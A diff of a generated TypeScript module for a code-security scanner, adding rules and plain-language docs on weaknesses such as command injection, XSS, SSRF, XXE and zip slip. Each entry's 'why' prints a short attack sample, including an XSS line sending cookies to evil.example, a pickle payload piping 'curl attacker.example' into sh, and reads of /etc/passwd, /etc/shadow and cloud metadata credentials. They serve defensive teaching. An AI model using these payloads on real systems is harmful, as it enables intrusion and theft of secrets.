@@ -1,92 +1,154 @@
 // Written by scripts/generate.mjs. Do not edit.
 import type { Rule } from './rule';
+import { rule as cleartextTransport } from './cleartext-transport/rule';
+import { rule as codeInjection } from './code-injection/rule';
+import { rule as commandInjection } from './command-injection/rule';
 import { rule as containerAsRoot } from './container-as-root/rule';
+import { rule as crossSiteScripting } from './cross-site-scripting/rule';
 import { rule as csrfDisabled } from './csrf-disabled/rule';
 import { rule as dangerousWorkflow } from './dangerous-workflow/rule';
 import { rule as debugEnabled } from './debug-enabled/rule';
 import { rule as defaultCredentials } from './default-credentials/rule';
+import { rule as errorDetailsExposed } from './error-details-exposed/rule';
 import { rule as grantAll } from './grant-all/rule';
 import { rule as hardcodedSecret } from './hardcoded-secret/rule';
+import { rule as headerInjection } from './header-injection/rule';
 import { rule as implicitCrossJoin } from './implicit-cross-join/rule';
 import { rule as insecureCookie } from './insecure-cookie/rule';
 import { rule as insecureDirectObjectReference } from './insecure-direct-object-reference/rule';
 import { rule as jwtNoExpiry } from './jwt-no-expiry/rule';
 import { rule as jwtUnverified } from './jwt-unverified/rule';
+import { rule as ldapInjection } from './ldap-injection/rule';
+import { rule as logInjection } from './log-injection/rule';
 import { rule as massAssignment } from './mass-assignment/rule';
 import { rule as missingAuthorization } from './missing-authorization/rule';
 import { rule as missingLoginThrottle } from './missing-login-throttle/rule';
 import { rule as missingWhere } from './missing-where/rule';
+import { rule as nosqlInjection } from './nosql-injection/rule';
 import { rule as oauthMissingState } from './oauth-missing-state/rule';
+import { rule as openRedirect } from './open-redirect/rule';
+import { rule as pathTraversal } from './path-traversal/rule';
 import { rule as permissiveCors } from './permissive-cors/rule';
 import { rule as plaintextPassword } from './plaintext-password/rule';
 import { rule as prototypePollution } from './prototype-pollution/rule';
 import { rule as publicBind } from './public-bind/rule';
+import { rule as redos } from './redos/rule';
+import { rule as regexInjection } from './regex-injection/rule';
 import { rule as secretInImage } from './secret-in-image/rule';
 import { rule as secretInLog } from './secret-in-log/rule';
 import { rule as securityHeadersMissing } from './security-headers-missing/rule';
+import { rule as serverSideRequestForgery } from './server-side-request-forgery/rule';
 import { rule as sessionFixation } from './session-fixation/rule';
 import { rule as shortKey } from './short-key/rule';
 import { rule as sqlInjection } from './sql-injection/rule';
 import { rule as sqlSyntax } from './sql-syntax/rule';
+import { rule as templateInjection } from './template-injection/rule';
 import { rule as timingUnsafeComparison } from './timing-unsafe-comparison/rule';
+import { rule as tlsVerificationDisabled } from './tls-verification-disabled/rule';
 import { rule as trustBoundary } from './trust-boundary/rule';
 import { rule as unpinnedImage } from './unpinned-image/rule';
+import { rule as unrestrictedUpload } from './unrestricted-upload/rule';
 import { rule as unsafeDeserialization } from './unsafe-deserialization/rule';
+import { rule as unsafeReflection } from './unsafe-reflection/rule';
 import { rule as unvalidatedInput } from './unvalidated-input/rule';
 import { rule as weakCipher } from './weak-cipher/rule';
 import { rule as weakHash } from './weak-hash/rule';
 import { rule as weakPasswordHash } from './weak-password-hash/rule';
 import { rule as weakRandom } from './weak-random/rule';
 import { rule as weakWorkFactor } from './weak-work-factor/rule';
+import { rule as xmlExternalEntities } from './xml-external-entities/rule';
+import { rule as xpathInjection } from './xpath-injection/rule';
+import { rule as zipSlip } from './zip-slip/rule';
 
 /** Every rule, by id. */
 export const rules: readonly Rule[] = [
+  cleartextTransport,
+  codeInjection,
+  commandInjection,
   containerAsRoot,
+  crossSiteScripting,
   csrfDisabled,
   dangerousWorkflow,
   debugEnabled,
   defaultCredentials,
+  errorDetailsExposed,
   grantAll,
   hardcodedSecret,
+  headerInjection,
   implicitCrossJoin,
   insecureCookie,
   insecureDirectObjectReference,
   jwtNoExpiry,
   jwtUnverified,
+  ldapInjection,
+  logInjection,
   massAssignment,
   missingAuthorization,
   missingLoginThrottle,
   missingWhere,
+  nosqlInjection,
   oauthMissingState,
+  openRedirect,
+  pathTraversal,
   permissiveCors,
   plaintextPassword,
   prototypePollution,
   publicBind,
+  redos,
+  regexInjection,
   secretInImage,
   secretInLog,
   securityHeadersMissing,
+  serverSideRequestForgery,
   sessionFixation,
   shortKey,
   sqlInjection,
   sqlSyntax,
+  templateInjection,
   timingUnsafeComparison,
+  tlsVerificationDisabled,
   trustBoundary,
   unpinnedImage,
+  unrestrictedUpload,
   unsafeDeserialization,
+  unsafeReflection,
   unvalidatedInput,
   weakCipher,
   weakHash,
   weakPasswordHash,
   weakRandom,
   weakWorkFactor,
+  xmlExternalEntities,
+  xpathInjection,
+  zipSlip,
 ];
 
 /** What the rules' pages say, in Markdown: the weakness, its danger, the repair (without the examples). */
 export const ruleDocs: Readonly<Record<string, { what: string; why: string; how: string }>> = {
+  'cleartext-transport': {
+    what: 'Data goes over the network without encryption: by HTTP, FTP, Telnet, or mail and directories without TLS.',
+    why: 'Everyone on the way can read and change it: in the same wireless network, at the provider, in between.\n\nA program logs in by FTP. On the network this is seen:\n\n```text\nUSER shop\nPASS correct-horse\n```',
+    how: 'Use the encrypted protocol: `https://`, SFTP or FTPS, SSH, `smtps` or STARTTLS, `ldaps://`. Make your own server redirect from HTTP to HTTPS, and send the header `Strict-Transport-Security`.\n\nIt is fine to speak HTTP on the same machine, or behind a proxy that encrypts.',
+  },
+  'code-injection': {
+    what: 'Data from outside is run as a piece of the program, with `eval` or something like it.',
+    why: 'Whoever sends the data can do everything that your program can: read its secrets, change its data, start other programs.\n\nA calculator evaluates what a visitor types. The visitor types this:\n\n```text\nprocess.exit()\n```\n\nThe server stops. Other lines would read the passwords of its database.',
+    how: 'Do not run text as code. To read data, parse it: `JSON.parse`, `ast.literal_eval`. To choose what to do, look the name up in a table of functions. To calculate, use a library made for formulas.\n\nA sandbox inside the language (`vm` in Node.js, `exec` with empty globals in Python) does not protect: there are known ways out.\n\nIn Java, do not evaluate SpEL, OGNL or scripts that contain data. In Ruby, avoid `eval`, `instance_eval` and `send` with data. In PHP, avoid `eval`, `assert` with text, and `call_user_func` with a name from outside.',
+  },
+  'command-injection': {
+    what: 'Data from outside becomes part of a command line that a shell reads, or it names the program to start. A shell gives many characters a meaning: `;`, `|`, `&`, `$` and line breaks.',
+    why: 'Whoever sends the data can run any program on the server, with all rights of yours.\n\nA page pings the host that a visitor names. The visitor sends this:\n\n```text\nexample.org; cat /etc/passwd\n```\n\nThe shell runs `ping example.org`, and then prints the list of users.',
+    how: 'Start the program without a shell, and give it each argument on its own: then no character has a special meaning. Check the value too, because an argument that begins with `-` can still be an option; put `--` before it where the program knows that.\n\nOften a library can do it without any program: resize a picture, read an archive, resolve a name.\n\nIn Java, use `ProcessBuilder` with one element for each argument, and no `sh -c`. In Ruby, use `system(\'ping\', host)` with several arguments, never backquotes. In PHP, wrap each argument in `escapeshellarg`.',
+  },
   'container-as-root': {
     what: 'The program in a container runs as root, or the container gets rights that are as good as root on the host: `privileged`, a powerful capability, or the Docker socket.',
     why: 'A container is a thin wall. A program without rights behind it can do little after a break-in. Root can change every file of the image, listen to the network, and use any hole in the kernel or the settings to reach the host. With the Docker socket no hole is needed:\n\n```text\ndocker -H unix:///var/run/docker.sock run -v /:/host alpine cat /host/etc/shadow\n```',
     how: 'Create a user in the image and switch to it with `USER` before the program starts. Many images bring one: `node` in the Node image, `nobody` everywhere. In a compose file remove `privileged: true` and name the single right that is needed with `cap_add`.\n\nA port below 1024 is no reason for root: let the program listen on 8080 and publish it as 80.',
+  },
+  'cross-site-scripting': {
+    what: 'Data from outside becomes part of a page without being escaped. The browser cannot tell which tags you wrote and which came with the data.',
+    why: 'Whoever makes a visitor open a link, or writes something that others read, can run a script in their browsers: act in their name, read what they see.\n\nA search page repeats what was searched for. A link contains this:\n\n```text\n<script>fetch(\'https://evil.example/\' + document.cookie)</script>\n```\n\nThe browser of everyone who opens the link runs it.',
+    how: 'Let a template put the data in, one that escapes: `<`, `>`, `&` and quotes become harmless. Do not switch the escaping off for data. If you build a page by hand, escape each value.\n\nEscaping for HTML does not help inside a script, in a style, or in an address that begins with `javascript:`. Give data to scripts as JSON in an attribute. For text that may contain some tags, use a sanitizer such as DOMPurify.\n\nIn Java, use Thymeleaf’s `th:text` (not `th:utext`), JSTL’s `c:out`, or the OWASP Java Encoder. In Ruby on Rails, do not call `html_safe` or `raw` on data. In PHP, use `htmlspecialchars`; in Blade `{{ }}` and not `{!! !!}`.',
   },
   'csrf-disabled': {
     what: 'The framework\'s protection against cross-site request forgery (CSRF) is turned off, for a view or for everything.',
@@ -108,6 +170,11 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'Programs scan the internet for such services day and night, and try these first:\n\n```text\npostgres / postgres   root / (empty)   admin / admin\n```',
     how: 'Give the service a random password, and read it from the environment, in every language.',
   },
+  'error-details-exposed': {
+    what: 'An answer contains what an exception says: its text, or even the stack trace.',
+    why: 'Errors name files, tables, versions and addresses of your server. Each helps an attacker to find the next step.\n\nA page is asked for an article with a quote in its id. The answer is this:\n\n```text\nError: near "\'": syntax error in SELECT * FROM articles WHERE id = \'\n    at /srv/shop/src/db.js:41\n```\n\nIt says that the id reaches an SQL statement, and which database and which files there are.',
+    how: 'Write the error to the log, and send a short text of your own. Give both a number, so that you find the entry when somebody reports it. Show details only while you develop.\n\nIn Java, turn `server.error.include-stacktrace` and `include-message` off (the default of Spring Boot), and do not print a trace into the response. In Ruby on Rails, keep `consider_all_requests_local` off in production. In PHP, set `display_errors = Off`.',
+  },
   'grant-all': {
     what: '`GRANT ALL` gives a database login every right there is, or a right to change data goes to `PUBLIC`, which is every login.',
     why: 'A program that only reads and writes rows does not need to drop tables. If somebody breaks into it, its rights are theirs:\n\n```text\nDROP TABLE orders;\n```',
@@ -117,6 +184,11 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     what: 'A key, a token, a password or an address with a password stands in the source code.',
     why: 'Code is copied: to colleagues, to build servers, to GitHub. What was committed once stays in the history, even after you delete the line. Programs search public repositories for keys, and find new ones within minutes:\n\n```text\ngit log -p | grep -E \'AKIA|sk_live_|BEGIN RSA PRIVATE KEY\'\n```\n\nWith the key that signs your sessions or tokens, anyone can be anyone.',
     how: 'Read secrets from the environment or from a secret store, in every language. Then replace the secret: the old one is no longer secret.',
+  },
+  'header-injection': {
+    what: 'Data from outside becomes the name of a response header, or it goes into a header in a server that lets line breaks through. A line break ends a header.',
+    why: 'Whoever makes a visitor open a link with such data can set cookies in the visitor’s browser, or switch off protections.\n\nThe request names the header. A link contains this:\n\n```text\n?name=Set-Cookie&value=session=known\n```\n\nThe visitor’s browser now has a session that the attacker knows.',
+    how: 'Write the names of headers yourself. Remove line breaks from values, or encode them: `encodeURIComponent`, `quote`.\n\nNode.js, Django, Flask, Starlette and PHP refuse a value with a line break, so there the request fails. In Java and Ruby it depends on the server: check the value yourself.',
   },
   'implicit-cross-join': {
     what: 'A query names two tables, and no condition says which rows of the one belong to which rows of the other.',
@@ -143,6 +215,16 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'The signature is all that ties a token to your server. The rest is text that anyone can write:\n\n```text\n{"alg":"none"}\n{"sub":"admin","role":"owner"}\n```',
     how: 'Verify the token with your key before you believe a word of it, and name the algorithm that you sign with. In Java call `parseSignedClaims` (JJWT) or `JWT.require(…).build().verify(…)`, in Ruby `JWT.decode(token, key, true, algorithm: \'HS256\')`, in PHP `JWT::decode($token, new Key($key, \'HS256\'))`.',
   },
+  'ldap-injection': {
+    what: 'Data from outside becomes part of the filter, or of the name, of an LDAP search. Parentheses, `*`, `|` and `&` have a meaning there.',
+    why: 'Whoever sends the data can change what is searched: log in as someone else, or list all people of a directory.\n\nA login searches for the name and the password. A visitor sends this name:\n\n```text\nadmin)(|(uid=*\n```\n\nThe filter now holds for every entry, whatever the password is.',
+    how: 'Escape each value with the function that your LDAP library has for filters; names (DNs) need another one than filters. Better still, check a login by binding with the name and the password, not by searching for a password.\n\nIn Java, use `LdapEncoder.filterEncode` of Spring LDAP, or the search with arguments (`{0}`) of JNDI. In Ruby, use `Net::LDAP::Filter.eq`, which escapes. In PHP, use `ldap_escape` with `LDAP_ESCAPE_FILTER`.',
+  },
+  'log-injection': {
+    what: 'Data from outside goes into a log as it is. A log is text, one line for each entry, and the data can hold line breaks.',
+    why: 'Whoever sends the data can write entries that look like yours, and so hide what happened.\n\nA program logs failed logins with the name. A visitor sends this name:\n\n```text\nmia\\nINFO Login of admin succeeded\n```\n\nThe log shows a login that never was.',
+    how: 'Log data as fields of JSON, where a line break is written as `\\n` (most logging libraries can do that), or remove line breaks before you log.\n\nIn Java, use `%replace` or `%encode` in the pattern of Logback or Log4j. In Ruby and PHP, log the value with `inspect` or `json_encode`.',
+  },
   'mass-assignment': {
     what: 'All fields of a request go into a record at once, without a list of those that may be set.',
     why: 'The sender decides which fields there are. Your form has two; the attacker sends a third:\n\n```text\n{"name": "Mallory", "email": "m@example.com", "isAdmin": true}\n```',
@@ -163,10 +245,25 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'There is no undo. One run empties the table, or gives every row the same value.',
     how: 'Add a `WHERE` clause that names the rows. Try it as a `SELECT` first and look at what comes back. If you mean every row, say so: suppress the finding with that reason, or use `TRUNCATE` to empty a table.',
   },
+  'nosql-injection': {
+    what: 'A query of MongoDB is an object, and data from the request becomes a part of it. JSON bodies and many query strings can carry objects, so where you expect text, a visitor can send operators.',
+    why: 'Whoever sends the data can change what the query matches, for example so that every password is right.\n\nA login looks a user up by name and password. A visitor sends this as the body:\n\n```text\n{"name": "admin", "password": {"$ne": null}}\n```\n\nThe query asks for a user named admin whose password is *not equal to nothing*, and it finds one. With `$where`, the data even runs as JavaScript in the database.',
+    how: 'Make sure that each value is text or a number before it goes into a query: convert it, or check the request against a schema. Name the fields of a query yourself, and never pass a whole body on as a query. Do not use `$where`.\n\nWrapping a value as `{ $eq: value }` works as well: then it is only compared.\n\nIn PHP, `$_GET[\'name\']` can be an array when the address says `name[$ne]=`; cast it with `(string)`. In Ruby on Rails, `params[:name]` can be a hash; call `to_s` on it. In Java, build the filter from a `String`, not from parsed JSON.',
+  },
   'oauth-missing-state': {
     what: 'A login at another service (OAuth) starts without the parameter `state`.',
     why: 'The service sends the visitor back to your address with a code. Without `state` your server cannot tell whether this browser has asked for it. An attacker sends the victim a link with the attacker\'s own code:\n\n```text\nhttps://shop.example/callback?code=CODE_OF_THE_ATTACKER\n```\n\nThe victim is now logged in as the attacker, and what the victim types in, an address or a card, ends up in the attacker\'s account.',
     how: 'Send a random `state`, keep it in the session, and refuse the answer when it is another one. Libraries do that when you let them: leave it on in Passport, Authlib, Spring Security, OmniAuth and Socialite.',
+  },
+  'open-redirect': {
+    what: 'The request says where the browser is sent next, and the address may be that of another site.',
+    why: 'A link that begins with your site’s name leads somewhere else. People trust the name, and type their password into the copy that they land on.\n\nAfter the login, the visitor is sent to the address in `next`. A link in an e-mail looks like this:\n\n```text\nhttps://shop.example/login?next=https://sh0p.example/login\n```\n\nThe login succeeds, and then a page that looks the same says that the password was wrong.',
+    how: 'Redirect to paths that you write, or look the address up in a list. If any path of your own site may come from the request, check it: it begins with one `/` and not with `//` or `/\\`. Better, parse the address and compare its host with yours.\n\nIn Java, return `redirect:` with a fixed path. In Ruby on Rails, `redirect_to` takes `allow_other_host: false`, which is the default of newer applications. In PHP, check the address before `header(\'Location: …\')`.',
+  },
+  'path-traversal': {
+    what: 'Data from outside becomes part of a path. The two dots of `../` lead out of the folder that you mean, and an absolute path leaves it altogether.',
+    why: 'Whoever sends the data can read, overwrite or delete any file that your program may touch: its settings, its keys, its code.\n\nA page sends a picture by its name. A visitor asks for this one:\n\n```text\n../../../etc/passwd\n```\n\nThe path `pictures/../../../etc/passwd` is the list of users.',
+    how: 'Take only the last part of the name (`path.basename`), or give files names of your own and look them up. If the data may name folders too, make the finished path absolute and check that it lies in your folder; compare with the folder’s path *and* a slash behind it.\n\nMany frameworks have a function that sends a file from one folder only: `res.sendFile` with `root`, `send_from_directory`.\n\nIn Java, use `Path.normalize` and `startsWith`, or `FilenameUtils.getName`. In Ruby, use `File.basename`. In PHP, use `basename`, or `realpath` and a check of its beginning; never `include` a path with data in it.',
   },
   'permissive-cors': {
     what: 'The server tells browsers that any website may read its answers: with the origin `*`, by sending back whatever origin the request names, or with the origin `null`.',
@@ -188,6 +285,16 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'Everyone in the same network can reach it: in a café, in the office, and on a server without a firewall the whole internet.\n\n```text\ncurl http://192.168.0.17:5000/admin\n```',
     how: 'During development listen on `127.0.0.1`. In a container `0.0.0.0` is needed and right: there the published ports decide; suppress the hint with that reason. That holds for every language.',
   },
+  'redos': {
+    what: 'A pattern has a repetition inside a repetition, or two ways to read the same text in a loop. When the text does not match, the engine tries all combinations: with each further character twice as many.',
+    why: 'One short text keeps the server busy, and nobody else gets an answer.\n\nA form checks an address with `^(\\w+\\s?)*$`. A visitor sends this:\n\n```text\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\n```\n\nThere are more than a million million ways to cut forty letters into words, and the engine tries each.',
+    how: 'Write the pattern so that each text can be read in one way only. Let a separator be needed between two repetitions: `^\\w+(\\s\\w+)*$`. Limit the length of the text before you match it. Often two small checks are clearer than one big pattern.\n\nJava and PHP have possessive repetitions (`\\w++`) and Ruby atomic groups (`(?>…)`), which never try again; Python has both since 3.11.',
+  },
+  'regex-injection': {
+    what: 'Data from outside is compiled as a regular expression.',
+    why: 'Whoever sends the data chooses the pattern, and some patterns take hours on a short text.\n\nA search compiles what a visitor types. The visitor types this:\n\n```text\n(a+)+$\n```\n\nMatched against a text with thirty times the letter a and then an exclamation mark, it keeps the server busy and nobody else gets an answer. A pattern can also match more than you mean.',
+    how: 'Search for plain text: `includes`, `in`, `contains`. If you need the data inside a pattern, escape it first, so that each character stands for itself. If visitors may write patterns, use an engine that takes linear time, such as RE2.\n\nJava escapes with `Pattern.quote`, Ruby with `Regexp.escape`, PHP with `preg_quote`.',
+  },
   'secret-in-image': {
     what: 'A Dockerfile writes a password, key or token into the image: as `ENV` or `ARG`, by copying a file such as `.env`, or in a command.',
     why: 'An image is copied to registries, servers and laptops. Each layer keeps what was in it, even when a later step deletes the file. Whoever can pull the image reads it:\n\n```text\ndocker history --no-trunc your-image\ndocker inspect your-image --format \'{{.Config.Env}}\'\n```',
@@ -202,6 +309,11 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     what: 'The application answers without the headers that tell browsers to be careful: `Content-Security-Policy`, `Strict-Transport-Security`, `X-Content-Type-Options` and others.',
     why: 'They are a second line of defence. When a hole lets a script into a page, a content security policy still stops it from running or from calling home:\n\n```text\nRefused to load https://attacker.example/x.js: it violates the Content Security Policy\n```',
     how: 'Add the middleware that sets them with good defaults, and then write a content security policy for your pages. If a proxy sets them, suppress the hint with that reason. Spring Security and Rails set most of them by default; in Laravel and Symfony add a middleware or the NelmioSecurityBundle.',
+  },
+  'server-side-request-forgery': {
+    what: 'The server sends a request, and data from outside says where. The server stands inside your network, and reaches what a visitor cannot.',
+    why: 'Whoever sends the data can use your server to read from inner services, databases and the settings of the cloud.\n\nA page shows the preview of a link. A visitor sends this link:\n\n```text\nhttp://169.254.169.254/latest/meta-data/iam/security-credentials/\n```\n\nIn many clouds the answer is the server’s own keys.',
+    how: 'Write the host yourself, or choose it from a list, and let the data be only a part of the path or of the query. If visitors may name any site, resolve the name, refuse addresses of your own network, and do not follow redirects without the same check. Let such requests go through a proxy that can reach the outside only.\n\nThis holds for every language and every HTTP library.',
   },
   'session-fixation': {
     what: 'A visitor logs in, and the session keeps the id that it had before.',
@@ -223,10 +335,20 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'The statement fails when it runs, and not before. In a program that may be late: in front of a user.',
     how: 'Look at the marked place and at the word in front of it. The mistake is often one token earlier than the message. The parts of a query have a fixed order: `SELECT`, `FROM`, `WHERE`, `GROUP BY`, `HAVING`, `ORDER BY`, `LIMIT`.',
   },
+  'template-injection': {
+    what: 'Data from outside becomes part of a template’s source, instead of being given to the template as a variable. Template languages can read attributes and call functions, so the data is a program.',
+    why: 'Whoever sends the data can run code on the server.\n\nA page greets the visitor, and glues the name into the template. A visitor sends this name:\n\n```text\n{{ config.SECRET_KEY }}\n```\n\nThe answer shows the secret key of the application. Longer expressions start programs.',
+    how: 'Keep the template’s text fixed, in a file or a constant, and pass the data as variables. The template then shows the data and does not read it as instructions.\n\nIf visitors may write templates of their own, use a language without logic, such as Mustache, or a sandbox made for it.\n\nIn Java, do not build FreeMarker, Velocity or Thymeleaf templates from data, nor return a view’s name that contains data. In Ruby, do not pass data to `ERB.new` or `render inline:`. In PHP, do not pass data to Twig’s `createTemplate` or to Blade’s `Blade::render` as source.',
+  },
   'timing-unsafe-comparison': {
     what: 'A signature, a key or a token from a request is compared with `==` or `===`.',
     why: 'Such a comparison stops at the first character that differs. The more characters are right, the longer it takes. An attacker who measures many requests finds one character after the other:\n\n```text\na000…  1.00 µs\nb000…  1.04 µs   the first character is right\n```',
     how: 'Compare with a function that always takes the same time: `crypto.timingSafeEqual` in Node.js, `hmac.compare_digest` in Python, `MessageDigest.isEqual` in Java, `ActiveSupport::SecurityUtils.secure_compare` in Ruby, `hash_equals` in PHP.',
+  },
+  'tls-verification-disabled': {
+    what: 'A connection is encrypted, but nobody checks who is at the other end: the check of the certificate, or of the name in it, is switched off.',
+    why: 'Whoever sits between the two sides can answer in the other’s name, and read and change everything.\n\nIn a café, a program asks a server for its data. The network answers itself:\n\n```text\ncertificate: self-signed, for *\n```\n\nThe program takes it, and sends its password.',
+    how: 'Leave the check on. If a server has a certificate of your own authority, tell the client that authority’s certificate: `ca` in Node.js, `verify=\'ca.pem\'` in Requests, a trust store in Java, `ca_file` in Ruby, `CURLOPT_CAINFO` in PHP. For a server on your own machine, make a certificate that your machine trusts, with mkcert for example.',
   },
   'trust-boundary': {
     what: 'Data of a request goes into the session as it comes.',
@@ -238,10 +360,20 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     why: 'The same build gives another program tomorrow. That can break your service, and it lets whoever takes over the other project run code in yours. Tags of widely used actions have been moved to code that printed the secrets of every workflow:\n\n```text\nuses: some-owner/changed-files@v45   # yesterday harmless, today another commit\n```',
     how: 'Name a version of the image, or its digest, which cannot move at all. Name an action by its full commit, with the version in a comment. A tool such as Dependabot or Renovate then raises the versions in pull requests that you can read.',
   },
+  'unrestricted-upload': {
+    what: 'An uploaded file is stored under the name that the visitor’s computer gave it, so the visitor also chooses the file’s ending. Or uploads are taken whatever their type is.',
+    why: 'The ending decides what a server and a browser do with a file.\n\nA visitor uploads a picture of this name:\n\n```text\nme.html\n```\n\nWhoever opens the link to it gets a page of the visitor’s making, with your site’s name in the address bar. On a server that runs PHP, `me.php` is a program.',
+    how: 'Make up the name yourself, and take the ending from a list of those that you allow. Check the content as well, limit the size, and store uploads in a folder from which nothing is run. Best serve them from another domain.\n\nIn Java, do not use `getOriginalFilename` as the name. In Ruby on Rails, Active Storage makes up the names. In PHP, do not use `$_FILES[\'file\'][\'name\']` as the name.',
+  },
   'unsafe-deserialization': {
     what: 'Bytes or text from outside are turned into objects with a format that can hold objects of any class, such as Python\'s pickle, Java\'s serialization or PHP\'s `serialize`.',
     why: 'Such a format says which classes to make and how. The sender can choose classes that run a command while they are made. For pickle this is enough:\n\n```text\ncos\nsystem\n(S\'curl attacker.example | sh\'\ntR.\n```',
     how: 'Use a format that holds only data, such as JSON, and check what comes out. For YAML use the safe loader. In Java read JSON into a class of your own, without polymorphic types; in Ruby take `JSON.parse` and `YAML.safe_load` in place of `Marshal.load`; in PHP take `json_decode` in place of `unserialize`.',
+  },
+  'unsafe-reflection': {
+    what: 'Data from outside names the class, the module or the function that the program uses.',
+    why: 'Whoever sends the data reaches code that was never meant for visitors.\n\nA program calls the function that the request names. A visitor sends this name:\n\n```text\ndeleteEverything\n```\n\nIt is called, because it exists. Loading a class can run code of its own as well.',
+    how: 'Look the name up in a table of what visitors may use, and refuse all other names. In JavaScript use a `Map`: a plain object also has `constructor` and `__proto__`.\n\nIn Java, do not pass data to `Class.forName` or `Method.invoke`. In Ruby, do not pass data to `constantize`, `const_get` or `send`. In PHP, do not use data as the name in `new $class` or `$object->$method()`.',
   },
   'unvalidated-input': {
     what: 'A handler stores what the request sends, and looks at none of it first.',
@@ -272,5 +404,20 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     what: 'A password is hashed with bcrypt, scrypt or PBKDF2, but with a cost so low that the hash is quick to compute.',
     why: 'These functions protect a stolen database because every guess takes time. The cost says how much. With bcrypt each step of the cost halves what an attacker can try:\n\n```text\ncost  4: about 2,000 guesses a second on one processor core\ncost 12: about 4\n```',
     how: 'Choose the cost so that one hash takes about a quarter of a second on your server: 12 for bcrypt, 600,000 iterations for PBKDF2 with SHA-256, N of 131,072 for scrypt. That holds in every language: `new BCryptPasswordEncoder(12)` in Java, `BCrypt::Password.create(password, cost: 12)` in Ruby, `password_hash($password, PASSWORD_BCRYPT, [\'cost\' => 12])` in PHP.',
+  },
+  'xml-external-entities': {
+    what: 'XML can define abbreviations, called entities, and an entity can stand for a file or an address. A parser that follows them reads the file while it reads the XML.',
+    why: 'Whoever sends the XML can read files of your server, or make it call inner services.\n\nA visitor sends this order:\n\n```text\n<!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<order><name>&f;</name></order>\n```\n\nThe name of the order is now the list of users.',
+    how: 'Turn DTDs, or at least external entities, off in the parser. Many parsers have them off by default today; then leave it so.\n\nIn Node.js, do not set `noent` (libxmljs). In Python, use `defusedxml`, or lxml’s `XMLParser(resolve_entities=False)`. In Java, set the feature `http://apache.org/xml/features/disallow-doctype-decl` to true on each factory, and `XMLInputFactory.SUPPORT_DTD` to false. In Ruby, do not set `NOENT` or `DTDLOAD` for Nokogiri. In PHP, do not pass `LIBXML_NOENT` or `LIBXML_DTDLOAD`.',
+  },
+  'xpath-injection': {
+    what: 'Data from outside becomes part of an XPath expression. A quote in the data ends the text that you meant it to be, and the rest is read as conditions.',
+    why: 'Whoever sends the data can read other parts of the document, or make a check succeed.\n\nA program looks an account up in an XML file. A visitor sends this name:\n\n```text\n\' or \'1\'=\'1\n```\n\nThe condition holds for every account, and the first one is returned.',
+    how: 'Bind the data as a variable of the expression, if your library can do that: `$name` in the expression, and the value apart from it. If it cannot, accept only letters and digits.\n\nIn Java, use `XPathVariableResolver`. In Ruby, Nokogiri’s `xpath` takes variables as a hash. PHP’s `DOMXPath` has no variables (before PHP 8.4 with a registered function), so check the value first.',
+  },
+  'zip-slip': {
+    what: 'An archive is unpacked, and the names of the files in it become paths without a check. A name in an archive can be any text, also one with `../`.',
+    why: 'Whoever makes the archive can write files anywhere: over your program, or into its settings.\n\nA visitor uploads an archive with a file of this name:\n\n```text\n../../app/server.js\n```\n\nUnpacked into `uploads/new/`, it replaces the server’s code, and runs at the next start.',
+    how: 'Make the finished path absolute, and check that it lies in your folder, before you write. Or use only the last part of the name. Limit how much is unpacked, too: a small archive can hold very much.\n\nPython’s `zipfile` removes such names by itself. Its `tarfile` needs `filter=\'data\'` (the default since 3.14).\n\nIn Java, compare `folder.resolve(entry.getName()).normalize()` with the folder by `startsWith`. In Ruby, check the name of each entry of rubyzip. In PHP, `ZipArchive::extractTo` removes `../`, but names that you read with `getNameIndex` are as they are.',
   },
 };
